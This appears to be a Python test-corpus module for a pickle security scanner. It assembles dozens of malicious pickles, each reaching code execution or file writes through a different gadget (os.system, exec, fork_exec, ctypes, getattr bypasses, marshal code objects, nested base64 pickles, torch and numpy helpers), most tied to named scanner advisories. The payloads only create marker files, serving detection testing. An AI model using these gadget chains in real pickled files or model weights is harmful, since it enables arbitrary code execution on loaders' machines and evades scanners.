"""Malicious pickles, one per dangerous callable (scanner-threats.md §A and §F).

Each entry is a call chain that the unpickler evaluates; the chain's only effect is
to create the sample's marker file. Entries are named after the advisory that
reported the gadget where there is one, else after the gadget.
"""

from __future__ import annotations

import base64
import marshal
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import cloudpickle

from tests.scanning_corpus._pickle_asm import Build, Call, Global, Seq, assemble
from tests.scanning_corpus._sample import Payload, Reduce, Sample

__all__ = ["write_gadget_samples"]

OS_SYSTEM = Global("posix", "system")
#: The ``os`` module object, reached as an attribute of a harmless module (no import call).
OS_MODULE = Global("pathlib", "os")


def _inner(p: Payload) -> bytes:
    """A complete malicious pickle, to be hidden inside another one."""
    return assemble(Call(OS_SYSTEM, p.shell), proto=4)


def _method(name: str, obj: Any, *args: Any) -> Call:
    """``Class.method(obj, *args)``, named ``"module:Class.method"``: no getattr gadget."""
    return Call(Global(*name.rsplit(":", 1)), obj, *args)


def _code_object(p: Payload) -> bytes:
    # Compiling is not running: the code object is only marshalled.
    return marshal.dumps(compile(p.python, "<payload>", "exec"))


def _touch_function(marker: str) -> Callable[[], None]:
    # A closure, so cloudpickle must serialize it by value (code object and all).
    def touch() -> None:
        open(marker, "w").close()

    return touch


def _fork_exec(p: Payload) -> Call:
    # The 23 arguments of CPython 3.11's _posixsubprocess.fork_exec. errpipe_read and
    # errpipe_write must be open descriptors in the child (0 and 2 are).
    pipes = (-1, -1, -1, -1, -1, -1, 0, 2)
    flags = (False, False, -1, None, None, None, -1, None, False)
    return Call(
        Global("_posixsubprocess", "fork_exec"), p.argv, [p.executable], False, (), None, None,
        *pipes, *flags,
    )  # fmt: skip


@dataclass(frozen=True)
class Gadget:
    name: str
    technique: str
    build: Callable[[Payload], Any]
    """An expression for the assembler, or finished pickle bytes."""
    proto: int = 4
    has_marker: bool = True


GADGETS = (
    # §A.1 baseline
    Gadget(
        "builtins_eval_global_p0.pkl",
        "A.1 builtins.eval through a protocol-0 GLOBAL (spelled __builtin__)",
        lambda p: Call(Global("__builtin__", "eval"), p.python),
        proto=0,
    ),
    Gadget(
        "builtins_exec_reduce.pkl",
        "A.1 builtins.exec through STACK_GLOBAL and REDUCE",
        lambda p: Call(Global("builtins", "exec"), p.python),
    ),
    Gadget(
        "subprocess_run_argv.pkl",
        "A.1 subprocess.run with an argument list",
        lambda p: Call(Global("subprocess", "run"), p.argv),
    ),
    # §A.2 unlisted process spawners
    Gadget(
        "multiprocessing_spawnv_passfds.pkl",
        "A.2 multiprocessing.util.spawnv_passfds (asynchronous child)",
        lambda p: Call(Global("multiprocessing.util", "spawnv_passfds"), p.executable, p.argv, ()),
    ),
    Gadget(
        "ghsa_m6fh_posixsubprocess_fork_exec.pkl",
        "A.2 _posixsubprocess.fork_exec (fickling GHSA-m6fh; asynchronous child)",
        _fork_exec,
    ),
    # §A.3 stdlib helpers that shell out
    Gadget(
        "ghsa_g38g_uuid_get_command_stdout.pkl",
        "A.3 uuid._get_command_stdout runs a program from PATH (picklescan GHSA-g38g)",
        lambda p: Call(Global("uuid", "_get_command_stdout"), *p.argv),
    ),
    Gadget(
        "ghsa_g38g_imaplib_imap4_stream.pkl",
        "A.3 imaplib.IMAP4_stream starts a shell command (raises after it ran)",
        lambda p: Call(Global("imaplib", "IMAP4_stream"), p.shell),
    ),
    Gadget(
        "ghsa_g38g_pydoc_pipepager.pkl",
        "A.3 pydoc.pipepager pipes text into a shell command",
        lambda p: Call(Global("pydoc", "pipepager"), "", p.shell),
    ),
    Gadget(
        "ghsa_5hwf_osx_support_read_output.pkl",
        "A.3 _osx_support._read_output calls os.system (fickling GHSA-5hwf)",
        lambda p: Call(Global("_osx_support", "_read_output"), p.shell),
    ),
    # §A.4 shell sinks
    Gadget(
        "mailcap_findmatch_test_command.pkl",
        "A.4 mailcap.findmatch runs the 'test' command of an attacker's caps dict",
        lambda p: Call(
            Global("mailcap", "findmatch"),
            {"text/plain": [{"view": "true", "test": p.shell}]},
            "text/plain",
        ),
    ),
    Gadget(
        "pipes_template_copy_build_steps.pkl",
        "A.4 pipes.Template.copy on a Template whose steps come from BUILD state",
        lambda p: _method(
            "pipes:Template.copy",
            Build(Call(Global("pipes", "Template")), {"steps": [(p.shell, "--")]}),
            "",
            "",
        ),
    ),
    # §A.5 code strings run by profilers, timers and debuggers
    Gadget(
        "timeit_setup_string.pkl",
        "A.5 timeit.timeit runs its setup string",
        lambda p: Call(Global("timeit", "timeit"), "pass", p.python),
    ),
    Gadget(
        "ghsa_p523_cprofile_run.pkl",
        "A.5 cProfile.run (fickling GHSA-p523)",
        lambda p: Call(Global("cProfile", "run"), p.python),
    ),
    Gadget(
        "ghsa_7wx9_profile_run.pkl",
        "A.5 profile.run (picklescan GHSA-7wx9)",
        lambda p: Call(Global("profile", "run"), p.python),
    ),
    Gadget(
        "trace_trace_run.pkl",
        "A.5 trace.Trace.run through a dotted global on a fresh Trace",
        lambda p: _method("trace:Trace.run", Call(Global("trace", "Trace"), 0, 0), p.python),
    ),
    Gadget(
        "bdb_bdb_run.pkl",
        "A.5 bdb.Bdb.run",
        lambda p: _method("bdb:Bdb.run", Call(Global("bdb", "Bdb")), p.python),
    ),
    Gadget(
        "code_interactive_interpreter_runcode.pkl",
        "A.5 code.InteractiveInterpreter.runcode with a source string",
        lambda p: _method(
            "code:InteractiveInterpreter.runcode",
            Call(Global("code", "InteractiveInterpreter")),
            p.python,
        ),
    ),
    # §A.6 eval/exec inside neutral-looking modules
    Gadget(
        "typing_forwardref_eval_type.pkl",
        "A.6 typing._eval_type of a typing.ForwardRef (raises after evaluating)",
        lambda p: Call(
            Global("typing", "_eval_type"), Call(Global("typing", "ForwardRef"), p.python), {}, None
        ),
    ),
    Gadget(
        "dataclasses_create_fn_default.pkl",
        "A.6 dataclasses._create_fn with a default-argument expression",
        lambda p: Call(Global("dataclasses", "_create_fn"), "f", [f"x={p.python}"], ["return 0"]),
    ),
    # §A.7 third-party ML libraries
    Gadget(
        "ghsa_r8g5_numpy_testing_runstring.pkl",
        "A.7 numpy.testing._private.utils.runstring is exec",
        lambda p: Call(Global("numpy.testing._private.utils", "runstring"), p.python, {}),
    ),
    Gadget(
        "torch_collect_env_run.pkl",
        "A.7 torch.utils.collect_env.run is a shell",
        lambda p: Call(Global("torch.utils.collect_env", "run"), p.shell),
    ),
    Gadget(
        "torch_jit_exec_wrapper.pkl",
        "A.7 torch.jit.unsupported_tensor_ops.execWrapper is exec",
        lambda p: Call(Global("torch.jit.unsupported_tensor_ops", "execWrapper"), p.python, {}, {}),
    ),
    # §A.8 universal name resolvers
    Gadget(
        "ghsa_vvpj_pkgutil_resolve_name.pkl",
        "A.8 pkgutil.resolve_name('os:system'), then call the result",
        lambda p: Call(Call(Global("pkgutil", "resolve_name"), "os:system"), p.shell),
    ),
    Gadget(
        "ghsa_84r2_pydoc_locate.pkl",
        "A.8 pydoc.locate('os.system'), then call the result",
        lambda p: Call(Call(Global("pydoc", "locate"), "os.system"), p.shell),
    ),
    Gadget(
        "importlib_import_module_getattr_static.pkl",
        "A.8 importlib.import_module('os') + inspect.getattr_static(module, 'system')",
        lambda p: Call(
            Call(
                Global("inspect", "getattr_static"),
                Call(Global("importlib", "import_module"), "os"),
                "system",
            ),
            p.shell,
        ),
    ),
    # §A.9 getattr equivalents
    Gadget(
        "ghsa_955r_operator_methodcaller.pkl",
        "A.9 _operator.methodcaller('system', cmd) called on the os module",
        lambda p: Call(Call(Global("_operator", "methodcaller"), "system", p.shell), OS_MODULE),
    ),
    Gadget(
        "operator_attrgetter.pkl",
        "A.9 operator.attrgetter('system') on the os module, then call the result",
        lambda p: Call(Call(Call(Global("operator", "attrgetter"), "system"), OS_MODULE), p.shell),
    ),
    Gadget(
        "functools_reduce_getattr.pkl",
        "A.9 functools.reduce(getattr, ['system'], os), then call the result",
        lambda p: Call(
            Call(
                Global("functools", "reduce"), Global("builtins", "getattr"), ["system"], OS_MODULE
            ),
            p.shell,
        ),
    ),
    Gadget(
        "ghsa_h4rm_builtins_getattr_import.pkl",
        "A.9 getattr(__import__('os'), 'system') (fickling GHSA-h4rm)",
        lambda p: Call(
            Call(
                Global("builtins", "getattr"),
                Call(Global("builtins", "__import__"), "os"),
                "system",
            ),
            p.shell,
        ),
    ),
    # §A.10 dotted attribute path inside one global
    Gadget(
        "ghsa_5j3x_dotted_stack_global.pkl",
        "A.10 STACK_GLOBAL of module 'pathlib', name 'os.system' (protocol 4)",
        lambda p: Call(Global("pathlib", "os.system"), p.shell),
    ),
    # §A.15 rebuilding a code object
    Gadget(
        "ghsa_565g_marshal_code_function.pkl",
        "A.15 types.FunctionType(marshal.loads(code), {}) then called: no dangerous name",
        lambda p: Call(
            Call(
                Global("types", "FunctionType"),
                Call(Global("marshal", "loads"), _code_object(p)),
                {},
            )
        ),
    ),
    Gadget(
        "ghsa_9m3x_cloudpickle_function.pkl",
        "A.15 a function rebuilt by cloudpickle from its code object, then called",
        lambda p: cloudpickle.dumps(Reduce(_touch_function(str(p.marker)))),
    ),
    # §A.16 nested pickles behind secondary loaders
    Gadget(
        "nested_pickle_loads.pkl",
        "A.16 pickle.loads of an inner malicious pickle",
        lambda p: Call(Global("pickle", "loads"), _inner(p)),
    ),
    Gadget(
        "nested_pickle_loads_base64.pkl",
        "A.16 _pickle.loads(base64.b64decode(...)) of an inner malicious pickle",
        lambda p: Call(
            Global("_pickle", "loads"),
            Call(Global("base64", "b64decode"), base64.b64encode(_inner(p)).decode()),
        ),
    ),
    Gadget(
        "torch_storage_load_from_bytes.pkl",
        "A.16 torch.storage._load_from_bytes: torch.load(weights_only=False) of inner bytes",
        lambda p: Call(Global("torch.storage", "_load_from_bytes"), _inner(p)),
    ),
    Gadget(
        "lib2to3_grammar_loads.pkl",
        "A.5/A.16 lib2to3 Grammar.loads unpickles inner bytes (raises after)",
        lambda p: _method(
            "lib2to3.pgen2.grammar:Grammar.loads",
            Call(Global("lib2to3.pgen2.grammar", "Grammar")),
            _inner(p),
        ),
    ),
    # §A.17 monkeypatching a module with BUILD: no callable at all
    Gadget(
        "build_module_dict_monkeypatch.pkl",
        "A.17 BUILD on the json.decoder module object writes into its __dict__",
        lambda p: Seq(Build(Global("json", "decoder"), {"BASTION_PROBE": p.marker.name}), {}),
        has_marker=False,
    ),
    # §F advisories with their own gadget
    Gadget(
        "cve_2025_1716_pip_main.pkl",
        "F pip.main (CVE-2025-1716); inert: 'pip cache dir --log MARKER' only writes its log",
        lambda p: Call(
            Global("pip", "main"), ["cache", "dir", "--isolated", "--log", str(p.marker)]
        ),
    ),
    Gadget(
        "ghsa_9726_io_fileio.pkl",
        "F _io.FileIO(path, 'w') creates or truncates any file (picklescan GHSA-9726)",
        lambda p: Call(Global("_io", "FileIO"), str(p.marker), "w"),
    ),
    Gadget(
        "ghsa_m7j5_logging_filehandler.pkl",
        "F logging.FileHandler opens any path for writing (picklescan GHSA-m7j5)",
        lambda p: Call(Global("logging", "FileHandler"), str(p.marker)),
    ),
    Gadget(
        "ghsa_m273_distutils_write_file.pkl",
        "F distutils.file_util.write_file writes any path (picklescan GHSA-m273)",
        lambda p: Call(Global("distutils.file_util", "write_file"), str(p.marker), []),
    ),
    Gadget(
        "ghsa_4675_ctypes_cdll_system.pkl",
        "F libc system() through ctypes.CDLL(None) and methodcaller (picklescan GHSA-4675)",
        lambda p: Call(
            Call(Global("operator", "methodcaller"), "system", p.shell.encode()),
            Call(Global("ctypes", "CDLL"), None),
        ),
    ),
    Gadget(
        "ghsa_vqmv_pty_spawn.pkl",
        "F pty.spawn runs a program (picklescan GHSA-vqmv, fickling GHSA-r7v6)",
        lambda p: Call(Global("pty", "spawn"), p.argv),
    ),
    Gadget(
        "ghsa_m6fh_atexit_register.pkl",
        "F atexit.register(os.system, cmd): runs when the loading process exits",
        lambda p: Call(Global("atexit", "register"), OS_SYSTEM, p.shell),
    ),
    Gadget(
        "ghsa_wfq2_runpy_run_code.pkl",
        "F runpy._run_code execs a source string (fickling GHSA-wfq2)",
        lambda p: Call(Global("runpy", "_run_code"), p.python, {}),
    ),
)


def write_gadget_samples(outdir: Path, markers: Path) -> list[Sample]:
    samples = []
    for gadget in GADGETS:
        path = outdir / gadget.name
        payload = Payload(markers / gadget.name)
        built = gadget.build(payload)
        path.write_bytes(built if isinstance(built, bytes) else assemble(built, gadget.proto))
        samples.append(
            Sample(
                gadget.name,
                path,
                gadget.technique,
                expects_detection=True,
                loader="pickle",
                marker=payload.marker if gadget.has_marker else None,
            )
        )
    return samples
